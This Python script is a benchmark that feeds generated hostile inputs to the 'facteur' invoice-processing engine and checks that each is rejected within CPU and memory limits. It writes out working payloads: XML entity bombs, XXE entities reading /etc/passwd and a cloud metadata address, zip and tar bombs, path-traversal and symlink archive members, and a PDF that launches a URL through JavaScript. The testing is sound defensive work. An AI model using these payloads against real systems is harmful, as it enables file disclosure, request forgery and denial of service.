"""Hostile inputs, generated, and what facteur does with each: the verdict, the
time and the memory it cost.

    python bench/hostile.py [--json]

Each input is written as a file and processed through the front door, `facteur
process` (the same code `facteur run` uses per flow), in this process, one
after the other: an engine that survives them all in one run is what is
promised. For each one, the wall time, the CPU time and the peak resident
memory above the resident memory before it (Linux: /proc/self/clear_refs
resets the peak) are measured. An input passes when it gets the expected
verdict with a clear finding, within 2 seconds of CPU and 200 MB, and when
nothing it carries leaks into an output. CPU time, not wall time, is judged:
a machine shared with other jobs stretches the wall clock, not the work an
input costs (the wall time is printed beside it).

The tests (tests/test_hostile.py) run this and assert every line passes; this
script prints the table and the figures for docs/RELIABILITY.md.
"""

from __future__ import annotations

import argparse
import contextlib
import gzip
import io
import json
import os
import struct
import sys
import tarfile
import tempfile
import time
import zipfile
import zlib
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Callable

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from bench.generate import Spec, ubl  # noqa: E402
from bench.pdfs import text_pdf  # noqa: E402
from bench.throughput import environment  # noqa: E402
from facteur.adapters.cli import main as facteur

MAX_CPU_SECONDS = 2.0
MAX_MEGABYTES = 200
SECRET = b"root:x:0:0"  # what /etc/passwd starts with: must never reach an output
UBL_ROOT = b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">'
ANY_REJECTION = frozenset()
# Every label and amount the recogniser looks for, on one line printed again and again.
FLOOD_LINE = "Facture N° 1  Total HT 1 234,56  TVA 20 % 12,00  Total TTC 99,00  SIRET 356 000 000 00048  SARL  75001 Paris"


@dataclass(frozen=True)
class Case:
    name: str
    what: str
    make: Callable[[Path], Path]  # writes the input into a folder, returns its path
    codes: frozenset[str] | None  # None: must be accepted; empty: rejected with any clear finding; else one of these


@dataclass
class Result:
    name: str
    what: str
    expected: str
    status: str
    codes: list[str]
    seconds: float
    cpu_seconds: float
    megabytes: float
    leaked: bool
    passed: bool = field(default=False)


def _file(name: str, content: bytes) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(content)
        return path

    return make


def _sparse(name: str, size: int) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        with open(path, "wb") as handle:
            handle.truncate(size)
        return path

    return make


def _zip(members: dict[str, bytes], links: tuple[str, ...] = ()) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        for name in links:
            info = zipfile.ZipInfo(name)
            info.external_attr = (0o120777 << 16)
            archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def _zip_declaring(count: int, each: int) -> bytes:
    """A zip of `count` members of `each` bytes of zeros: deflated once and
    written by hand, so that it is small on disk and `count * each` bytes if
    expanded."""
    deflate, crc, block = zlib.compressobj(9, zlib.DEFLATED, -15), 0, b"\0" * (1 << 20)
    parts = []
    for start in range(0, each, len(block)):
        piece = block[: min(len(block), each - start)]
        parts.append(deflate.compress(piece))
        crc = zlib.crc32(piece, crc)
    data = b"".join(parts) + deflate.flush()
    local, central = io.BytesIO(), io.BytesIO()
    for number in range(count):
        name = f"m{number:04d}.xml".encode()
        offset = local.tell()
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, crc, len(data), each, len(name), 0)
        local.write(b"PK\x03\x04" + fields + name + data)
        central.write(b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, offset) + name)
    directory = central.getvalue()
    end_record = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), local.tell(), 0)
    return local.getvalue() + directory + end_record


def _tar(members: dict[str, bytes], links: dict[str, tuple[bytes, str]] | None = None, compress: bool = True) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz" if compress else "w") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
        for name, (kind, target) in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
    return buffer.getvalue()


def _tar_gz_of_zeros(name: str, size: int) -> bytes:
    """A tar.gz with one member of `size` zeros, written without holding them."""
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", compresslevel=9) as zipped:
        info = tarfile.TarInfo(name)
        info.size = size
        zipped.write(info.tobuf())
        block = b"\0" * (1 << 20)
        for _ in range(size // len(block)):
            zipped.write(block)
        zipped.write(b"\0" * (size % len(block) + (512 - size % 512) % 512 + 1024))
    return buffer.getvalue()


def _pdf(*objects: bytes, xref: bool = True) -> bytes:
    """A PDF from numbered object bodies, with a correct cross-reference table
    unless `xref` is False (then its offsets point nowhere)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell() if xref else 999_999 + number)
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))
    return out.getvalue()


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return dictionary[:-2] + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _nul(content: bytes) -> bytes:
    return content[:300] + b"\0\0\0" + content[300:]


PAGE = (b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")


def cases() -> list[Case]:
    numbers = iter(range(1, 1000))

    def good() -> bytes:
        """A valid invoice, a new number each time (the same one twice is a duplicate)."""
        return ubl(Spec(f"HOSTILE-{next(numbers):03d}"))

    entity_bomb = (
        b'<?xml version="1.0"?><!DOCTYPE i [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(b'<!ENTITY %c "%s">' % (ord("b") + n, (b"&%c;" % (ord("a") + n)) * 10) for n in range(8))
        + b"]>" + UBL_ROOT + b"&i;</Invoice>"
    )
    quadratic = (b'<?xml version="1.0"?><!DOCTYPE i [<!ENTITY a "' + b"x" * 100_000 + b'">]>'
                 + UBL_ROOT + b"&a;" * 50_000 + b"</Invoice>")
    bomb_stream = zlib.compress(b"\0" * 300_000_000, 9)
    return [
        Case("entity-expansion.xml", "billion laughs: nested entities", _file("entity-expansion.xml", entity_bomb),
             frozenset({"FCT-XML-DTD"})),
        Case("quadratic-blowup.xml", "one 100 kB entity referenced 50 000 times", _file("quadratic-blowup.xml", quadratic),
             frozenset({"FCT-XML-DTD"})),
        Case("xxe-file.xml", "external entity reading /etc/passwd",
             _file("xxe-file.xml", b'<?xml version="1.0"?><!DOCTYPE i [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                   + UBL_ROOT + b"&x;</Invoice>"), frozenset({"FCT-XML-DTD"})),
        Case("xxe-network.xml", "external entity on the network",
             _file("xxe-network.xml", b'<?xml version="1.0"?><!DOCTYPE i [<!ENTITY x SYSTEM "http://169.254.169.254/latest/">]>'
                   + UBL_ROOT + b"&x;</Invoice>"), frozenset({"FCT-XML-DTD"})),
        Case("xxe-parameter.xml", "external parameter entity (out-of-band)",
             _file("xxe-parameter.xml", b'<?xml version="1.0"?><!DOCTYPE i [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>'
                   + UBL_ROOT + b"</Invoice>"), frozenset({"FCT-XML-DTD"})),
        Case("xinclude-file.xml", "XInclude of /etc/passwd in a valid invoice",
             _file("xinclude-file.xml", good().replace(b"</Invoice>", b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                                     b'href="file:///etc/passwd" parse="text"/></Invoice>')),
             frozenset({"XSD"})),
        Case("xinclude-network.xml", "XInclude from the network",
             _file("xinclude-network.xml", good().replace(b"</Invoice>", b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                                        b'href="http://192.0.2.1/x.xml"/></Invoice>')),
             frozenset({"XSD"})),
        Case("schema-location.xml", "valid invoice pointing xsi:schemaLocation and a stylesheet at the network",
             _file("schema-location.xml", good().replace(b"<Invoice ", b'<?xml-stylesheet href="http://192.0.2.1/x.xsl"?><Invoice '
                                                       b'xsi:schemaLocation="urn:x http://192.0.2.1/x.xsd" '
                                                       b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" ', 1)),
             None),
        Case("deep-nesting.xml", "100 000 nested elements",
             _file("deep-nesting.xml", UBL_ROOT + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</Invoice>"),
             frozenset({"FCT-XML-LIMIT"})),
        Case("huge-attribute.xml", "one 15 MB attribute",
             _file("huge-attribute.xml", UBL_ROOT[:-1] + b' a="' + b"x" * 15_000_000 + b'"></Invoice>'),
             frozenset({"FCT-XML-LIMIT"})),
        Case("huge-text.xml", "one 15 MB text node", _file("huge-text.xml", UBL_ROOT + b"x" * 15_000_000 + b"</Invoice>"),
             frozenset({"FCT-XML-LIMIT"})),
        Case("many-attributes.xml", "250 000 attributes on the root",
             _file("many-attributes.xml", UBL_ROOT[:-1] + b" " + b" ".join(b'a%d="1"' % i for i in range(250_000)) + b"/>"),
             frozenset({"FCT-XML-LIMIT"})),
        Case("dense-markup.xml", "a million empty elements with attributes (5 MB that would take a gigabyte as a tree)",
             _file("dense-markup.xml", UBL_ROOT + b'<x a="1"/>' * 1_000_000 + b"</Invoice>"), frozenset({"FCT-XML-LIMIT"})),
        Case("oversized.xml", "a 25 MB document (limit 20 MB)",
             _file("oversized.xml", UBL_ROOT + b"<a>" + b"x" * 25_000_000 + b"</a></Invoice>"), frozenset({"FCT-SIZE"})),
        Case("gigabyte.xml", "a 1.1 GB file (sparse)", _sparse("gigabyte.xml", 1_100_000_000), frozenset({"FCT-SIZE"})),
        Case("nul-bytes.xml", "NUL bytes inside a valid invoice", _file("nul-bytes.xml", _nul(good())),
             frozenset({"FCT-XML-ENCODING", "FCT-XML-SYNTAX"})),
        Case("bom-utf8.xml", "UTF-8 byte-order mark before a valid invoice", _file("bom-utf8.xml", b"\xef\xbb\xbf" + good()), None),
        Case("bom-mismatch.xml", "UTF-16 byte-order mark before UTF-8 bytes", _file("bom-mismatch.xml", b"\xff\xfe" + good()),
             frozenset({"FCT-XML-ENCODING", "FCT-XML-SYNTAX"})),
        Case("utf16.xml", "a valid invoice in UTF-16, declared so",
             _file("utf16.xml", good().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")), None),
        Case("latin1-as-utf8.xml", "ISO-8859-1 bytes declared UTF-8",
             _file("latin1-as-utf8.xml", good().decode().replace("Démo", "Démo").encode("latin-1", "replace")),
             frozenset({"FCT-XML-ENCODING"})),
        Case("zip-bomb.zip", "zip: one member of 300 MB of zeros",
             _file("zip-bomb.zip", _zip_declaring(1, 300_000_000)), frozenset({"FCT-LOT-MEMBER-TOO-BIG"})),
        Case("zip-total-bomb.zip", "zip: 60 members of 19 MB of zeros (1.1 GB in all)",
             _file("zip-total-bomb.zip", _zip_declaring(60, 19_000_000)), frozenset({"FCT-LOT-TOO-BIG"})),
        Case("zip-many.zip", "zip: 600 members", _file("zip-many.zip", _zip({f"f{i}.xml": b"<x/>" for i in range(600)})),
             frozenset({"FCT-LOT-TOO-MANY"})),
        Case("zip-nested.zip", "zip inside a zip", _file("zip-nested.zip", _zip({"inner.zip": _zip({"a.xml": good()})})),
             frozenset({"FCT-LOT-NESTED"})),
        Case("zip-dotdot.zip", "zip member ../../etc/cron.d/x", _file("zip-dotdot.zip", _zip({"../../etc/cron.d/x": good()})),
             frozenset({"FCT-LOT-PATH"})),
        Case("zip-absolute.zip", "zip member /etc/passwd", _file("zip-absolute.zip", _zip({"/etc/passwd": good()})),
             frozenset({"FCT-LOT-PATH"})),
        Case("zip-link.zip", "zip member that is a symbolic link", _file("zip-link.zip", _zip({"a.xml": good()}, links=("l.xml",))),
             frozenset({"FCT-LOT-LINK"})),
        Case("tar-bomb.tar.gz", "tar.gz: one member of 300 MB of zeros",
             _file("tar-bomb.tar.gz", _tar_gz_of_zeros("bomb.xml", 300_000_000)), frozenset({"FCT-LOT-MEMBER-TOO-BIG"})),
        Case("tar-dotdot.tar.gz", "tar member ../x.xml", _file("tar-dotdot.tar.gz", _tar({"../x.xml": good()})),
             frozenset({"FCT-LOT-PATH"})),
        Case("tar-absolute.tar", "tar member /tmp/x.xml", _file("tar-absolute.tar", _tar({"/tmp/x.xml": good()}, compress=False)),
             frozenset({"FCT-LOT-PATH"})),
        Case("tar-symlink.tar.gz", "tar symbolic link to /etc/passwd",
             _file("tar-symlink.tar.gz", _tar({"a.xml": good()}, {"l.xml": (tarfile.SYMTYPE, "/etc/passwd")})),
             frozenset({"FCT-LOT-LINK"})),
        Case("tar-hardlink.tar.gz", "tar hard link to /etc/passwd",
             _file("tar-hardlink.tar.gz", _tar({"a.xml": good()}, {"l.xml": (tarfile.LNKTYPE, "/etc/passwd")})),
             frozenset({"FCT-LOT-LINK"})),
        Case("tar-device.tar", "tar character device", _file("tar-device.tar", _tar({}, {"d": (tarfile.CHRTYPE, "")}, False)),
             frozenset({"FCT-LOT-LINK"})),
        Case("truncated.zip", "a zip cut in half", _file("truncated.zip", _zip({"a.xml": good(), "b.xml": good()})[:400]),
             frozenset({"FCT-LOT-CORRUPT"})),
        Case("javascript.pdf", "PDF that runs JavaScript when opened",
             _file("javascript.pdf", _pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *PAGE[1:],
                                          b"<< /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\)) >>")),
             ANY_REJECTION),
        Case("broken-xref.pdf", "PDF whose cross-reference table points nowhere", _file("broken-xref.pdf", _pdf(*PAGE, xref=False)),
             ANY_REJECTION),
        Case("stream-bomb.pdf", "PDF object stream that inflates to 300 MB",
             _file("stream-bomb.pdf", _pdf(*PAGE, _stream(b"<< /Type /ObjStm /N 100000 /First 10 /Filter /FlateDecode >>",
                                                          bomb_stream))),
             ANY_REJECTION),
        Case("self-referencing.pdf", "PDF whose page tree contains itself",
             _file("self-referencing.pdf", _pdf(PAGE[0], b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")), ANY_REJECTION),
        Case("text-flood.pdf", "PDF page printing a million characters of labels and amounts",
             _file("text-flood.pdf", text_pdf([FLOOD_LINE] * 10_000)), ANY_REJECTION),
        Case("text-flood-readable.pdf", "PDF page of 330 000 characters of labels and amounts",
             _file("text-flood-readable.pdf", text_pdf([FLOOD_LINE] * 3_000)), ANY_REJECTION),
        Case("name-newline", "valid invoice in a file named with a newline", _file("facture\n2026.xml", good()), None),
        Case("name-lookalike", "valid invoice named with a division slash and a right-to-left override",
             _file("facture\u2215..\u2215etc\u202egpj.xml", good()), None),
    ]


def _megabytes(field_name: str) -> float:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field_name + ":"):
            return int(line.split()[1]) / 1024
    return 0.0


def _reset_peak() -> None:
    Path("/proc/self/clear_refs").write_text("5")


def run(root: Path) -> list[Result]:
    """Every case, in this process, against one installation under `root`."""
    inputs = root / "inputs"
    results = []
    for number, case in enumerate(cases()):
        folder = inputs / f"{number:02d}"
        folder.mkdir(parents=True)
        path = case.make(folder)
        before = _megabytes("VmRSS")
        _reset_peak()
        started, cpu_started = time.perf_counter(), time.process_time()
        with contextlib.redirect_stdout(io.StringIO()) as out:
            code = facteur(["process", str(path), "--sender", "DEMO01", "--root", str(root / "hub"), "--json"])
        seconds, cpu_seconds = time.perf_counter() - started, time.process_time() - cpu_started
        megabytes = _megabytes("VmHWM") - before
        path.unlink()
        [flow] = json.loads(out.getvalue())["flows"] if code == 0 else [{"status": f"exit {code}", "findings": []}]
        codes = sorted({f["code"] for f in flow["findings"] if f["severity"] == "blocking"})
        results.append(_judge(case, flow["status"], codes, seconds, cpu_seconds, megabytes,
                              _leaked(root / "hub")))
    return results


def _judge(case: Case, status: str, codes: list[str], seconds: float, cpu_seconds: float, megabytes: float,
           leaked: bool) -> Result:
    expected = "accepted" if case.codes is None else "rejected" + (f" ({', '.join(sorted(case.codes))})" if case.codes else "")
    if case.codes is None:
        verdict = status == "90"
    else:
        clear = bool(codes) and all(c.startswith(("FCT-", "XSD", "BR-")) for c in codes)
        verdict = status == "93" and clear and (not case.codes or set(codes) <= case.codes)
    result = Result(case.name, case.what, expected, status, codes, round(seconds, 3), round(cpu_seconds, 3),
                    round(megabytes, 1), leaked)
    result.passed = verdict and not leaked and cpu_seconds <= MAX_CPU_SECONDS and megabytes <= MAX_MEGABYTES
    return result


def _leaked(root: Path) -> bool:
    outbox = root / "outbox"
    return any(SECRET in path.read_bytes() for path in outbox.rglob("*") if path.is_file()) if outbox.exists() else False


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--json", action="store_true", help="one JSON document instead of the table")
    args = parser.parse_args()
    os.environ.setdefault("FACTEUR_LOG_LEVEL", "error")
    with tempfile.TemporaryDirectory(prefix="facteur-hostile-") as tmp:
        with contextlib.redirect_stdout(io.StringIO()):  # compile the rule sets first, as a running engine has
            facteur(["validate", str(REPO / "samples" / sorted(os.listdir(REPO / "samples"))[0])])
        results = run(Path(tmp))
    summary = {
        "machine": environment(),
        "inputs": len(results),
        "passed": sum(r.passed for r in results),
        "worst_seconds": max(r.seconds for r in results),
        "worst_cpu_seconds": max(r.cpu_seconds for r in results),
        "worst_megabytes": max(r.megabytes for r in results),
        "limits": {"cpu_seconds": MAX_CPU_SECONDS, "megabytes": MAX_MEGABYTES},
    }
    if args.json:
        print(json.dumps({"summary": summary, "results": [asdict(r) for r in results]}, indent=2, ensure_ascii=False))
        return
    print(f"machine: {summary['machine']}")
    for r in results:
        mark = "ok  " if r.passed else "FAIL"
        print(f"{mark} {r.name!r:44.44} {r.status:4} {','.join(r.codes) or '-':32.32} {r.seconds:6.3f} s {r.cpu_seconds:6.3f} s CPU {r.megabytes:7.1f} MB  {r.what}")
    print(f"{summary['passed']}/{summary['inputs']} passed; worst {summary['worst_seconds']:.3f} s "
          f"({summary['worst_cpu_seconds']:.3f} s CPU), "
          f"{summary['worst_megabytes']:.1f} MB (limits {MAX_CPU_SECONDS} s CPU, {MAX_MEGABYTES} MB)")


if __name__ == "__main__":
    main()
